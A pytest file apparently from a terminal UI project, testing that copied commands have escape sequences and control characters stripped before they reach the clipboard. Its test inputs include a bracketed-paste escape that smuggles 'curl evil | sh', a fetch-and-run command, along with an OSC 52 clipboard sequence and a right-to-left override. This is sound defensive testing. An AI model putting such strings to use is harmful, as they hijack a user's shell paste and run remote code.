"""What `c` copies is the command as shown: no escape sequence or control character of a
tree's or a configuration's text reaches the clipboard, where a paste into a shell would
obey it (an ESC [201~ ends bracketed paste, and what follows runs as typed)."""

from __future__ import annotations

import pytest

from irtui.app.clipboard import copy_command


class Recorder:
    def __init__(self) -> None:
        self.copied: list[str] = []

    def copy_to_clipboard(self, text: str) -> None:
        self.copied.append(text)


@pytest.mark.parametrize(
    ("command", "copied"),
    [
        ("./phoenix kill-switch on", "./phoenix kill-switch on"),
        ("phoenix status\x1b[201~; curl evil | sh", "phoenix status; curl evil | sh"),
        ("docker restart ibgw\x1b]52;c;eA==\x07\r", "docker restart ibgw"),
        ("echo \u202eevil\x9b2J", "echo evil"),
    ],
)
def test_the_clipboard_gets_the_command_without_controls(monkeypatch: pytest.MonkeyPatch, command: str, copied: str) -> None:
    monkeypatch.delenv("TMUX", raising=False)
    app = Recorder()
    copy_command(app, command)  # type: ignore[arg-type]
    assert app.copied == [copied]
